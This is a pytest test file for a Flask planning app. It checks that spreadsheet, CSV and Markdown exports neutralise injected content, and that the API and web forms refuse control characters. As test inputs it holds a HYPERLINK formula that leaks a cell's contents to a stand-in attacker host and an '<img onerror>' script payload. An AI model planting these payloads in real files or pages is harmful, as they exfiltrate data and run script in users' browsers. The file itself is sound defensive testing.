"""Exports through the API and the plan page: no formulas, no raw HTML, one charset, no 500 on
stored text; control characters refused at the contract (API, import, questionnaire, titles)."""

from __future__ import annotations

import io
import json
import re
from typing import Any

import pytest
import yaml
from flask import Flask
from flask.testing import FlaskClient

from advisor.output.formats import FORMATS
from advisor.store.accounts import create_token, user_by_name
from advisor.store.tables import AssessmentRecord
from tests.conftest import ROOT
from tests.web.conftest import Browser
from tests.web.helpers import json_of
from web.extensions import services

CONTOSO: dict[str, Any] = yaml.safe_load((ROOT / "examples" / "contoso.yaml").read_text())
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
# Every format both the API and the plan page offer.
KINDS = [f.name for f in FORMATS.values() if {"api", "page"} <= f.surfaces]

# Both databases: PostgreSQL refuses NUL in text columns, so what is stored there matters.
pytestmark = pytest.mark.parametrize("database_url", ["sqlite", "postgresql"], indirect=True)


def _token(app: Flask, username: str) -> dict[str, str]:
    store = services(app).store
    with store.session() as db:
        user = user_by_name(db, username)
        assert user is not None
        return {"Authorization": f"Bearer {create_token(db, user, 'tests')}"}


def _answers(**changes: Any) -> dict[str, Any]:
    answers: dict[str, Any] = json.loads(json.dumps(CONTOSO))
    for path, value in changes.items():
        if path == "organisation":
            answers["organisation"]["name"] = value
        else:
            answers["groups"][0][path] = value
    return answers


def _create(client: FlaskClient, token: dict[str, str], answers: dict[str, Any]) -> int:
    response = client.post("/api/v1/assessments", json={"answers": answers}, headers=token)
    assert response.status_code == 201, response.get_data(as_text=True)
    return int(json_of(response)["id"])


def _downloads(anna: Browser, token: dict[str, str], assessment_id: int, kind: str) -> list[Any]:
    """The same export from the API and from the plan page's download link."""
    return [
        anna.client.get(f"/api/v1/assessments/{assessment_id}/export/{kind}", headers=token),
        anna.get(f"/assessments/{assessment_id}/plan.{kind}"),
    ]


def test_a_formula_name_is_text_in_every_spreadsheet_download(app: Flask, anna: Browser) -> None:
    from openpyxl import load_workbook

    token = _token(app, "anna")
    assessment_id = _create(anna.client, token, _answers(organisation=FORMULA, name=FORMULA))
    for response in _downloads(anna, token, assessment_id, "xlsx"):
        assert response.status_code == 200
        book = load_workbook(io.BytesIO(response.data))
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        assert [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"] == []
        assert sum(c.value == FORMULA and c.quotePrefix for c in cells) >= 2  # Rationale, once per reason
    for response in _downloads(anna, token, assessment_id, "csv"):
        assert response.status_code == 200
        text = response.data.decode("utf-8-sig")
        assert ",\"'=HYPERLINK(" in text
        assert ',"=HYPERLINK(' not in text


def test_markdown_downloads_escape_html(app: Flask, anna: Browser) -> None:
    token = _token(app, "anna")
    attack = "<img src=x onerror=alert(1)>"
    assessment_id = _create(anna.client, token, _answers(organisation=attack, name=attack))
    for response in _downloads(anna, token, assessment_id, "markdown"):
        text = response.get_data(as_text=True)
        assert re.search(r"(?<!\\)<img", text) is None  # every < of the name is escaped
        assert "\\<img src=x onerror=alert(1)\\>" in text


@pytest.mark.parametrize("kind", KINDS)
def test_every_export_has_exactly_one_charset_or_none(app: Flask, anna: Browser, kind: str) -> None:
    token = _token(app, "anna")
    assessment_id = _create(anna.client, token, CONTOSO)
    spec = FORMATS[kind]
    for response in _downloads(anna, token, assessment_id, kind):
        assert response.status_code == 200
        content_type = response.headers["Content-Type"]
        charsets = content_type.lower().count("charset=")
        if spec.binary or spec.essence == "application/json":
            assert charsets == 0, content_type  # binary, or JSON (UTF-8 by definition)
        else:
            assert charsets == 1, content_type
            assert content_type.endswith("; charset=utf-8")


@pytest.mark.parametrize("kind", KINDS)
def test_stored_control_characters_still_export(app: Flask, anna: Browser, kind: str) -> None:
    """An assessment saved before control characters were refused exports without a 500."""
    token = _token(app, "anna")
    assessment_id = _create(anna.client, token, _answers(name="Sales MARK"))
    with services(app).store.session() as db:
        record = db.get(AssessmentRecord, assessment_id)
        assert record is not None
        bad = "Sales \\u0000\\u0001\\u000b\\u001b\\u007f"
        record.plan = json.loads(json.dumps(record.plan).replace("Sales MARK", bad))
        record.answers = json.loads(json.dumps(record.answers).replace("Sales MARK", bad))
    for response in _downloads(anna, token, assessment_id, kind):
        assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert anna.get(f"/assessments/{assessment_id}/plan").status_code == 200


@pytest.mark.parametrize("char", ["\x00", "\x01", "\x0b", "\x1b", "\x7f", "\x9b"])
def test_the_api_refuses_control_characters_by_path(app: Flask, anna: Browser, char: str) -> None:
    token = _token(app, "anna")
    client = anna.client
    code = f"U+{ord(char):04X}"
    bad = _answers(name=f"Sales{char}", department=f"D{char}", locations=[f"Oslo{char}"])
    response = client.post("/api/v1/plans", json=bad)
    assert response.status_code == 422
    fields = {f["loc"]: f["msg"] for f in json_of(response)["error"]["fields"]}
    assert fields == {
        "groups[0].name": f"must not contain control characters ({code})",
        "groups[0].department": f"must not contain control characters ({code})",
        "groups[0].locations[0]": f"must not contain control characters ({code})",
    }
    response = client.post("/api/v1/assessments", json={"answers": bad}, headers=token)
    assert response.status_code == 422
    response = client.post(
        "/api/v1/assessments", json={"title": f"T{char}", "answers": CONTOSO}, headers=token
    )
    assert response.status_code == 422
    assert json_of(response)["error"]["fields"] == [
        {"loc": "title", "msg": f"must not contain control characters ({code})"}
    ]
    created = _create(client, token, CONTOSO)
    response = client.put(
        f"/api/v1/assessments/{created}",
        json={"revision": 1, "title": f"T{char}", "answers": CONTOSO},
        headers=token,
    )
    assert response.status_code == 422
    assert json_of(client.get("/api/v1/assessments", headers=token))["items"][0]["title"] == "Contoso"


def test_the_openapi_document_states_the_pattern(anna: Browser) -> None:
    document = anna.client.get("/api/v1/openapi.json").json
    assert document is not None
    schemas = document["components"]["schemas"]
    patterns = {
        schemas["Organisation"]["properties"]["name"]["pattern"],
        schemas["Group"]["properties"]["name"]["pattern"],
        schemas["Group"]["properties"]["department"]["anyOf"][0]["pattern"],
        schemas["Group"]["properties"]["locations"]["items"]["pattern"],
        schemas["AssessmentCreate"]["properties"]["title"]["anyOf"][0]["pattern"],
        schemas["AssessmentUpdate"]["properties"]["title"]["anyOf"][0]["pattern"],
    }
    assert len(patterns) == 1
    assert "\\u0000-\\u001f" in patterns.pop()


def test_the_site_refuses_control_characters_in_titles_and_answers(anna: Browser) -> None:
    response = anna.post("/assessments", {"title": "Plan\x1b[31m"})
    assert response.status_code == 302
    page = anna.get("/").get_data(as_text=True)
    assert "\x1b" not in page
    assert "A title cannot contain control characters (U+001B)." in page

    assessment_id = _create(anna.client, _token(anna.client.application, "anna"), CONTOSO)
    refused = anna.post(f"/assessments/{assessment_id}/rename", {"title": "New\x00name"})
    assert refused.status_code == 400  # a NUL is refused for every form before any view runs
    assert "NUL character (U+0000)" in refused.get_data(as_text=True)
    anna.post(f"/assessments/{assessment_id}/rename", {"title": "New\x07name"})
    page = anna.get("/").get_data(as_text=True)
    assert "A title cannot contain control characters (U+0007)." in page
    assert "Contoso" in page

    response = anna.post(
        f"/assessments/{assessment_id}/organisation",
        {"name": "Con\x01toso", "rollout_start": "2027-07", "language": "en"},
    )
    assert response.status_code == 422  # refused, not kept in the draft
    assert "must not contain control characters (U+0001)" in response.get_data(as_text=True)

    # A new assessment takes its title from the organisation's name, but never such a name.
    draft = int(anna.post("/assessments", {"title": ""}).headers["Location"].split("/")[2])
    response = anna.post(
        f"/assessments/{draft}/organisation",
        {"name": "Fabri\x1fkam", "rollout_start": "2027-07", "language": "en"},
    )
    assert response.status_code == 422
    assert "must not contain control characters (U+001F)" in response.get_data(as_text=True)
    assert "\x1f" not in anna.get("/").get_data(as_text=True)

    imported = anna.post(
        "/assessments/import",
        {"file": (io.BytesIO(json.dumps(_answers(name="IT\x0b")).encode()), "a.json")},
        content_type="multipart/form-data",
    )
    assert imported.status_code == 422
    refused = imported.get_data(as_text=True)
    assert "must not contain control characters (U+000B)" in refused
    assert "groups[0]" not in refused  # named by its question and group, never by its path
